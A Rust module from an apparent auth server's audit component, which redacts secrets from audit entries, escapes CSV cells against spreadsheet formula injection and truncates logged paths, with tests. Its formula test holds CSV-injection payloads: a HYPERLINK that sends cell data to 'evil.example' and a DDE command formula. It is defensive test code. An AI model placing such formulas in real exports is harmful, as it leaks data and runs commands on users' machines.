//! What the audit log may hold (SPEC §4): no secret ever enters an entry, and no cell of its CSV
//! export can run as a spreadsheet formula.
//!
//! The server passes every entry's details through [`redact_secrets`] at the one place it writes
//! them, so a use case that forgets to redact cannot leak; the export passes every cell through
//! [`spreadsheet_safe`]; a request path is recorded as [`bounded_path`].

use std::borrow::Cow;

use serde_json::Value;

/// What a secret's value becomes in an audit entry: the fact that it changed, nothing of it.
pub const CHANGED: &str = "(changed)";

/// The names under which a secret travels in settings, requests and tokens: the JWT shared secret,
/// a key-ring secret, an OIDC client secret, passwords, the SCIM token, session ids, API keys and
/// tokens of every kind. Matched exactly, at any depth. (`session` and `code` are not here: audit
/// details use them for a session's row id and an error code.)
const SECRET_NAMES: &[&str] = &[
    "jwt_shared_secret",
    "secret",
    "client_secret",
    "password",
    "old_password",
    "new_password",
    "token",
    "scim_token",
    "key",
    "session_id",
    "jwt",
    "id_token",
    "access_token",
    "refresh_token",
    "logout_token",
    "code_verifier",
];

/// Whether a field of this name carries a secret.
///
/// ```
/// use lanyard_core::audit::is_secret_name;
/// assert!(is_secret_name("secret") && is_secret_name("jwt_shared_secret"));
/// assert!(!is_secret_name("api_key") && !is_secret_name("kid"));
/// ```
pub fn is_secret_name(name: &str) -> bool {
    SECRET_NAMES.contains(&name)
}

/// Replaces, at any depth, every value held under a secret's name (see [`is_secret_name`]) by
/// [`CHANGED`] — strings, numbers, objects and arrays alike; `null` (nothing sent) stays `null`.
/// Returns whether anything was replaced.
///
/// ```
/// use lanyard_core::audit::redact_secrets;
/// use serde_json::json;
/// let mut details = json!({"changes": {"jwt_keys": [{"kid": "a", "secret": "s3cr3t"}], "jwt_shared_secret": "k"}});
/// assert!(redact_secrets(&mut details));
/// assert_eq!(details, json!({"changes": {"jwt_keys": [{"kid": "a", "secret": "(changed)"}], "jwt_shared_secret": "(changed)"}}));
/// ```
pub fn redact_secrets(value: &mut Value) -> bool {
    match value {
        Value::Object(fields) => {
            let mut redacted = false;
            for (name, field) in fields.iter_mut() {
                if is_secret_name(name) {
                    if !field.is_null() && field.as_str() != Some(CHANGED) {
                        *field = Value::String(CHANGED.to_owned());
                        redacted = true;
                    }
                } else {
                    redacted |= redact_secrets(field);
                }
            }
            redacted
        }
        Value::Array(items) => items
            .iter_mut()
            .fold(false, |redacted, item| redact_secrets(item) | redacted),
        _ => false,
    }
}

/// A CSV cell that a spreadsheet shows as text (OWASP "CSV injection"): a cell starting with `=`,
/// `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, which spreadsheets read as "text
/// follows" and do not show. Every other cell is unchanged.
///
/// ```
/// use lanyard_core::audit::spreadsheet_safe;
/// assert_eq!(spreadsheet_safe("=HYPERLINK(\"x\")"), "'=HYPERLINK(\"x\")");
/// assert_eq!(spreadsheet_safe("ann@example.com"), "ann@example.com");
/// ```
pub fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

/// At most this many characters of a request's path go into an audit entry or a log line.
pub const PATH_CHARS: usize = 256;

/// A request path as the audit log and the request log record it: a client chooses its path, not
/// how much of the log it fills — at most [`PATH_CHARS`] characters, then "…".
///
/// ```
/// use lanyard_core::audit::bounded_path;
/// assert_eq!(bounded_path("/api/user"), "/api/user");
/// assert_eq!(bounded_path(&"A".repeat(1000)).chars().count(), 257);
/// ```
pub fn bounded_path(path: &str) -> String {
    match path.char_indices().nth(PATH_CHARS) {
        Some((end, _)) => format!("{}…", &path[..end]),
        None => path.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn every_secret_is_replaced_at_any_depth_and_nothing_else() {
        let mut details = json!({
            "changes": {
                "jwt_shared_secret": "0123456789abcdef0123456789abcdef",
                "jwt_keys": [
                    {"kid": "hs", "alg": "HS512", "secret": "ring secret"},
                    {"kid": "rs", "alg": "RS256", "public_key": "-----BEGIN PUBLIC KEY-----"}
                ],
                "oidc_providers": [{"slug": "okta", "client_secret": {"nested": "x"}}],
                "jwt_issuer": "https://idp.example"
            },
            "password": "hunter2 hunter2",
            "token": 12345,
            "api_key": 7,
            "session": 3,
            "code": "token_expired",
            "cleared": {"secret": null}
        });
        assert!(redact_secrets(&mut details));
        assert_eq!(
            details,
            json!({
                "changes": {
                    "jwt_shared_secret": CHANGED,
                    "jwt_keys": [
                        {"kid": "hs", "alg": "HS512", "secret": CHANGED},
                        {"kid": "rs", "alg": "RS256", "public_key": "-----BEGIN PUBLIC KEY-----"}
                    ],
                    "oidc_providers": [{"slug": "okta", "client_secret": CHANGED}],
                    "jwt_issuer": "https://idp.example"
                },
                "password": CHANGED,
                "token": CHANGED,
                "api_key": 7,
                "session": 3,
                "code": "token_expired",
                "cleared": {"secret": null}
            })
        );
        // Redacting again finds nothing more.
        assert!(!redact_secrets(&mut details));
    }

    #[test]
    fn formula_cells_are_neutralised() {
        for (cell, expected) in [
            ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", true),
            ("=cmd|'/Ccalc'!A0@example.com", true),
            ("+1", true),
            ("-2+3", true),
            ("@SUM(A1)", true),
            ("\tx", true),
            ("\rx", true),
            ("ann@example.com", false),
            ("2026-12-04T00:00:00Z", false),
            ("", false),
            ("{\"code\":\"x\"}", false),
        ] {
            let safe = spreadsheet_safe(cell);
            assert_eq!(safe.starts_with('\''), expected, "{cell:?}");
            assert_eq!(safe.trim_start_matches('\''), cell.trim_start_matches('\''));
        }
    }
}
